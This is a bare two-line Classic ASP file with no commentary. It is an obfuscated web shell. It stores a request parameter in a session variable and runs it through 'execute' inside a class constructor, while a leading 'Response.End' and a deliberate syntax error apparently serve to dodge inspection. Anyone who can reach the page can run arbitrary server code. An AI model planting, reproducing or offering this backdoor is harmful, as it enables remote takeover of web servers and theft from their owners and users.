<% Response.End : Dim 1 %>
<% class x: private sub class_initialize: execute session("z"): end sub: end class: session("z")=request("a"): set y=new x %>
